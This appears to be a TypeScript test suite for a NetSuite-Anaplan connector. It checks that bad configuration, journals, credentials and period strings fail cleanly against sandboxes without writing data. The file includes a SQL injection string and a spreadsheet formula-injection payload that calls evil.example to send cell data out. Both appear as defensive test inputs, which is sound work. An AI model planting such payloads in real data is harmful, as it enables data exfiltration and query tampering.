/**
 * Bad inputs that only a running system can refuse: configured actions the model lacks, IDs of the
 * right shape that name nothing, journals NetSuite refuses (cannot balance, unknown or inactive
 * account, closed period), credentials the token endpoint refuses (wrong private key, expired
 * certificate, RS256), and period text that would change a query. Real activities and clients
 * against both sandboxes; each case asserts the error names the input and where it is, and that
 * nothing was written.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import { parseConfig, type ConnectionConfig, type ConnectionConfigInput } from '../../common/config';
import type { AlignResult, PostJournalsResult } from '../../common/dto';
import { createActivities } from '../../activities';
import { createPortsResolver } from '../../activities/cycle/connections';
import type { CycleDeps } from '../../activities/cycle/context';
import type { Ports } from '../../activities/cycle/ports';
import type { StoredJournals } from '../../activities/cycle/plan';
import {
  NetSuiteAuthError,
  NetSuiteClient,
  NetSuiteValidationError,
  type JournalEntryInput,
} from '../../activities/netsuite';
import { FsArtifactStore, openStores, type Stores } from '../../activities/store';
import { createCertificate } from '../../sandbox/certs';
import { startSandboxes, type Sandboxes } from '../../sandbox/embedded';
import { sandboxConnection, sandboxNetsuitePins } from '../../client/sandbox-connection';

const FAST_RETRY = { maxAttempts: 3, baseDelayMs: 5, maxDelayMs: 50, maxRetryAfterMs: 200 };
const quietEnv = () => new MockActivityEnvironment(undefined, { logger: new DefaultLogger('ERROR') });

describe('bad inputs against the sandboxes', () => {
  let sb: Sandboxes;
  let dir: string;
  let stores: Stores;
  let base: ConnectionConfigInput;
  let resolver: ReturnType<typeof createPortsResolver>;
  const queries: string[] = [];
  let acts: ReturnType<typeof createActivities>;
  let ns: NetSuiteClient;
  let periodId: (name: string) => string;

  before(async () => {
    sb = await startSandboxes({ netsuite: { glLines: 300 } });
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mlc-bad-sys-'));
    stores = openStores({ dataDir: dir, env: { ML_CONNECTOR_MASTER_KEY: Buffer.alloc(32, 9).toString('hex') } });
    base = sandboxConnection(sb, stores.vault, 'bad');
    resolver = createPortsResolver({ vault: stores.vault });
    // The real resolver, with every SuiteQL statement recorded on its way out.
    const ports = async (c: ConnectionConfig): Promise<Ports> => {
      const p = await resolver(c);
      return {
        anaplan: p.anaplan,
        netsuite: {
          ...p.netsuite,
          query: (sql, o) => {
            queries.push(sql);
            return p.netsuite.query(sql, o);
          },
        },
      };
    };
    const deps: CycleDeps = { ports, artifacts: stores.artifacts, audit: stores.audit };
    acts = createActivities({ cycle: deps });
    const d = sb.netsuite.demoClient;
    ns = new NetSuiteClient({
      accountId: sb.netsuite.accountId,
      baseUrl: sb.netsuite.url,
      credentials: { ...d },
      retryPolicy: FAST_RETRY,
    });
    const rows = sb.netsuite.state.db.prepare(`SELECT id, periodname FROM accountingperiod`).all() as Array<{
      id: number;
      periodname: string;
    }>;
    periodId = (name) => String(rows.find((r) => r.periodname === name)!.id);
  });
  after(async () => {
    await resolver?.close();
    await stores?.close();
    await sb?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  const config = (patch: (c: ConnectionConfigInput) => void = () => undefined): ConnectionConfig => {
    const c = structuredClone(base);
    patch(c);
    return parseConfig(c);
  };
  const journalCount = () =>
    (
      sb.netsuite.state.db.prepare(`SELECT COUNT(*) AS n FROM "transaction" WHERE type = 'Journal'`).get() as {
        n: number;
      }
    ).n;
  const loginAudit = async () =>
    (await (await fetch(`${sb.netsuite.url}/__sandbox/login-audit`)).json()) as Array<{
      status: string;
      detail: string;
      certificateId?: string;
    }>;

  async function nonRetryable(p: Promise<unknown>, ...patterns: RegExp[]) {
    await assert.rejects(p, (e: Error & { nonRetryable?: boolean }) => {
      assert.equal(e.nonRetryable, true, `non-retryable: ${e.message}`);
      for (const re of patterns) assert.match(e.message, re);
      return true;
    });
  }

  // ------------------------------------------------------------------ missing actions, wrong IDs

  it('preflight fails non-retryably naming a misspelt import action and its config path', async () => {
    const cfg = config((c) => (c.actions = { ...c.actions!, importActuals: 'Import GL Actual' }));
    await nonRetryable(
      acts.preflight({ config: cfg, period: '2026-10', kind: 'full' }),
      /lacks import action "Import GL Actual" \(actions\.importActuals\)/,
      new RegExp(cfg.anaplan.modelId),
    );
  });

  it('preflight fails naming a wrong-case list import action (names are exact) at its dimension', async () => {
    const cfg = config(
      (c) => (c.dimensions!.accounts = { ...c.dimensions!.accounts, importAction: 'import accounts' }),
    );
    await nonRetryable(
      acts.preflight({ config: cfg, period: '2026-10', kind: 'actuals' }),
      /import action "import accounts" \(dimensions\.accounts\.importAction\)/,
    );
  });

  it('preflight fails naming an import whose definition lacks a column the connector sends', async () => {
    const cfg = config(() => undefined);
    const imp = [...sb.anaplan.state.model.imports.values()].find((i) => i.name === 'Import GL Actuals')! as {
      valueColumn: string;
    };
    const before = imp.valueColumn;
    imp.valueColumn = 'Value';
    try {
      await nonRetryable(
        acts.preflight({ config: cfg, period: '2026-10', kind: 'actuals' }),
        /import action "Import GL Actuals" \(actions\.importActuals\) lacks column\(s\) Amount \(it has .*Value\)/,
      );
    } finally {
      imp.valueColumn = before;
    }
  });

  it('a missing export action fails a plan cycle at preflight, and an actuals cycle does not need it', async () => {
    const cfg = config((c) => (c.actions = { ...c.actions!, exportPlan: 'Export Plan v2' }));
    await nonRetryable(
      acts.preflight({ config: cfg, period: '2026-10', kind: 'plan' }),
      /lacks export action "Export Plan v2" \(actions\.exportPlan\)/,
    );
    const ok = await acts.preflight({ config: cfg, period: '2026-10', kind: 'actuals' });
    assert.equal(ok.periodInfo.period, '2026-10');
  });

  it('a well-formed workspace ID that names no workspace fails non-retryably with the ID in the message', async () => {
    const cfg = config((c) => (c.anaplan = { ...c.anaplan!, workspaceId: 'f'.repeat(32) }));
    await nonRetryable(acts.preflight({ config: cfg, period: '2026-10', kind: 'full' }), /f{32}/);
  });

  it('a well-formed model ID that names no model fails non-retryably with the ID in the message', async () => {
    const cfg = config((c) => (c.anaplan = { ...c.anaplan!, modelId: 'A'.repeat(32) }));
    await nonRetryable(acts.preflight({ config: cfg, period: '2026-10', kind: 'full' }), /A{32}/);
  });

  it("a period string with SQL in it (2026-10' OR '1'='1) is refused as no posting period and reaches no query", async () => {
    queries.length = 0;
    await nonRetryable(
      acts.preflight({ config: config(), period: `2026-10' OR '1'='1`, kind: 'full' }),
      /period 2026-10' OR '1'='1 is not a NetSuite posting period/,
    );
    assert.ok(queries.length > 0, 'preflight read the periods');
    assert.ok(
      queries.every((q) => !q.includes('2026-10') && !q.includes(`'1'='1`)),
      queries.join('\n'),
    );
  });

  // ------------------------------------------------------------------ journals NetSuite refuses

  const journal = (
    lines: JournalEntryInput['lines'],
    period = 'Nov 2026',
    tranDate = '2026-11-30',
  ): JournalEntryInput => ({
    subsidiary: '2',
    tranDate,
    postingPeriod: periodId(period),
    memo: 'bad-input test',
    lines,
  });

  async function refusedJournal(externalId: string, body: JournalEntryInput, errorPath: RegExp) {
    const before = journalCount();
    await assert.rejects(ns.upsertJournal(externalId, body), (e: unknown) => {
      assert.ok(e instanceof NetSuiteValidationError, String(e));
      assert.equal(e.status, 400);
      assert.equal(e.code, 'USER_ERROR');
      assert.match(e.errorPath ?? '', errorPath);
      assert.match(e.message, /PUT \/services\/rest\/record\/v1\/journal[eE]ntry\/eid:/);
      assert.equal(e.retryable, false);
      return true;
    });
    assert.equal(journalCount(), before, 'nothing was written');
    assert.equal(await ns.getJournalByExternalId(externalId), undefined, 'no half-posted journal');
  }

  it('a journal whose debits and credits differ by one cent is refused at `line`', async () => {
    await refusedJournal(
      'bad-unbalanced',
      journal([
        { account: '41', debit: 100.01 },
        { account: '90', credit: 100 },
      ]),
      /^line$/,
    );
  });

  it('a journal line on an unknown account is refused at line.items[0].account', async () => {
    await refusedJournal(
      'bad-unknown-account',
      journal([
        { account: '99999', debit: 10 },
        { account: '90', credit: 10 },
      ]),
      /^line\.items\[0\]\.account$/,
    );
  });

  it('a journal line on an inactive account (6850 Legacy Telecom) is refused at line.items[1].account', async () => {
    await refusedJournal(
      'bad-inactive-account',
      journal([
        { account: '90', credit: 10 },
        { account: '53', debit: 10 },
      ]),
      /^line\.items\[1\]\.account$/,
    );
  });

  it('a journal in a closed period (Oct 2026) is refused at postingPeriod', async () => {
    await refusedJournal(
      'bad-closed-period',
      journal(
        [
          { account: '41', debit: 10 },
          { account: '90', credit: 10 },
        ],
        'Oct 2026',
        '2026-10-31',
      ),
      /^postingPeriod$/,
    );
  });

  it('postJournals records a refused journal with its externalId and reason, posts the good one, half-posts nothing', async () => {
    const cfg = config();
    const line = (accountId: string, debitCents: number, creditCents: number, isOffset = false) => ({
      accountId,
      departmentId: null,
      debitCents,
      creditCents,
      sourceLines: isOffset ? [] : [2],
      isOffset,
    });
    const planned = (externalId: string, period: string) => ({
      externalId,
      subsidiaryId: '2',
      period,
      version: 'Budget',
      part: 1,
      parts: 1,
      lines: [line('41', 5000, 0), line('90', 0, 5000, true)],
      debitCents: 5000,
      creditCents: 5000,
    });
    const stored: StoredJournals = {
      period: '2026-10',
      journals: [planned('bad-batch-closed', '2026-10'), planned('bad-batch-open', '2026-12')],
      periods: {
        '2026-10': { id: periodId('Oct 2026'), endDate: '2026-10-31' },
        '2026-12': { id: periodId('Dec 2026'), endDate: '2026-12-31' },
      },
    };
    const journalsHash = (await stores.artifacts.put(JSON.stringify(stored))).hash;
    const r = (await quietEnv().run(acts.postJournals, {
      config: cfg,
      cycleId: 'cycle:bad-batch',
      journalsHash,
      from: 0,
      to: 2,
    })) as PostJournalsResult;
    assert.equal(r.posted, 1);
    assert.equal(r.failed, 1);
    assert.equal(r.failures[0]!.externalId, 'bad-batch-closed');
    assert.match(r.failures[0]!.reason, /400 USER_ERROR .*at postingPeriod/);
    assert.equal(
      await ns.getJournalByExternalId('bad-batch-closed'),
      undefined,
      'the refused journal does not exist at all',
    );
    const good = await ns.getJournalByExternalId('bad-batch-open');
    assert.ok(good, 'the valid journal in the same batch was posted');
  });

  // ------------------------------------------------------------------ credentials the token endpoint refuses

  const client = (over: Partial<ConstructorParameters<typeof NetSuiteClient>[0]['credentials']>) =>
    new NetSuiteClient({
      accountId: sb.netsuite.accountId,
      baseUrl: sb.netsuite.url,
      credentials: { ...sb.netsuite.demoClient, ...over },
      retryPolicy: FAST_RETRY,
    });

  async function tokenRefused(c: NetSuiteClient, secret: string, message: RegExp) {
    await assert.rejects(
      async () => {
        for await (const _ of c.suiteql('SELECT id FROM subsidiary')) void _;
      },
      (e: unknown) => {
        assert.ok(e instanceof NetSuiteAuthError, String(e));
        assert.equal(e.retryable, false);
        assert.equal(e.path, '/services/rest/auth/oauth2/v1/token');
        assert.match(e.message, message);
        assert.ok(!e.message.includes(secret.slice(40, 80)), 'no key material in the message');
        return true;
      },
    );
  }

  it('a private key that does not match the uploaded certificate is refused, naming the certificate; NetSuite logs InvalidSignature', async () => {
    const other = await createCertificate({ kind: 'ec' });
    await tokenRefused(
      client({ privateKeyPem: other.privateKeyPem }),
      other.privateKeyPem,
      /400 invalid_grant.*certificate demo-certificate-1.*private key does not match/,
    );
    assert.equal((await loginAudit()).at(-1)!.detail, 'InvalidSignature');
  });

  it('a private key that is not PKCS#8 PEM is refused before any request', async () => {
    const before = (await loginAudit()).length;
    const garbage =
      '-----BEGIN ' +
      'PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbCwganVzdCB0ZXh0IGluIGEgUEVNIGZyYW1lIGZvciB0aGUgdGVzdA==\n-----END PRIVATE KEY-----\n';
    await tokenRefused(
      client({ privateKeyPem: garbage }),
      garbage,
      /private key could not be read as PKCS#8 for ES256/,
    );
    assert.equal((await loginAudit()).length, before, 'no token request was sent');
  });

  it('an expired certificate is refused by the token endpoint (CertificateExpired) with an actionable message', async () => {
    const expired = await createCertificate({
      kind: 'ec',
      notBefore: new Date(Date.now() - 400 * 86_400_000),
      days: 365,
    });
    await fetch(`${sb.netsuite.url}/__sandbox/m2m-mappings`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        clientId: sb.netsuite.demoClient.clientId,
        certificateId: 'expired-cert',
        certificatePem: expired.certificatePem,
      }),
    });
    await tokenRefused(
      client({ certificateId: 'expired-cert', privateKeyPem: expired.privateKeyPem }),
      expired.privateKeyPem,
      /certificate expired-cert.*expired or revoked/,
    );
    assert.equal((await loginAudit()).at(-1)!.detail, 'CertificateExpired');
  });

  it('an expired certificate stored in the vault fails preflight non-retryably, naming the connection and date, before any NetSuite call', async () => {
    const expired = await createCertificate({
      kind: 'ec',
      notBefore: new Date(Date.now() - 400 * 86_400_000),
      days: 365,
    });
    const secret = stores.vault.get('bad-netsuite', 'netsuite');
    stores.vault.set(
      'expired-netsuite',
      'netsuite',
      { ...secret, certificatePem: expired.certificatePem, privateKeyPem: expired.privateKeyPem },
      { source: 'test', ...sandboxNetsuitePins(sb) },
    );
    const cfg = config((c) => {
      c.name = 'expired';
      c.netsuite = { ...c.netsuite!, credentials: 'expired-netsuite' };
    });
    queries.length = 0;
    await nonRetryable(
      acts.preflight({ config: cfg, period: '2026-10', kind: 'full' }),
      /NetSuite certificate of connection expired expired on \d{4}-\d{2}-\d{2}/,
    );
    assert.deepEqual(queries, [], 'no SuiteQL was sent');
  });

  it('RS256 credentials are refused locally with the fix (PS256/ES256), not sent to NetSuite', async () => {
    const rsa = await createCertificate({ kind: 'rsa' });
    const before = (await loginAudit()).length;
    await tokenRefused(
      client({ privateKeyPem: rsa.privateKeyPem, algorithm: 'RS256' as never }),
      rsa.privateKeyPem,
      /algorithm RS256 is refused by NetSuite.*PS256.*ES256/,
    );
    assert.equal((await loginAudit()).length, before, 'no token request was sent');
  });
  // ------------------------------------------------------------------ formula injection (issue 13 item 7)

  it('a NetSuite name a spreadsheet would run as a formula reaches Anaplan and the artifact as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"open")';
    const db = sb.netsuite.state.db;
    const id = (db.prepare(`SELECT MAX(id) AS id FROM classification`).get() as { id: number }).id + 1;
    db.prepare(`INSERT INTO classification (id, name, fullname, parent, isinactive) VALUES (?, ?, ?, NULL, 'F')`).run(
      id,
      evil,
      evil,
    );
    const r = (await quietEnv().run(acts.alignDimensions, {
      config: config(),
      cycleId: 'cycle:formula',
    })) as AlignResult;
    assert.equal(r.dimensions.classes.unmapped, 0, 'the member maps: its code round-trips');
    const list = (await (await fetch(`${sb.anaplan.url}/__sandbox/lists/Classes`)).json()) as {
      items: Array<{ code: string; name: string }>;
    };
    const item = list.items.find((i) => i.name.includes('HYPERLINK'));
    assert.ok(item, 'the member was imported');
    assert.equal(item.name, `'${evil}`, 'the name starts with a quote, so Excel shows it as text');
    const root = (stores.artifacts as FsArtifactStore).root;
    const files = fs
      .readdirSync(root)
      .filter((f) => /^[0-9a-f]{64}$/.test(f))
      .map((f) => fs.readFileSync(path.join(root, f), 'utf8'));
    const csv = files.find((t) => t.startsWith('Code,Name,Parent') && t.includes('HYPERLINK'));
    assert.ok(csv, 'the list import file is an artifact');
    assert.match(csv, /,"'=HYPERLINK\(""http:\/\/evil\.example/);
    assert.doesNotMatch(csv, /(^|,|")=HYPERLINK/m);
  });
});
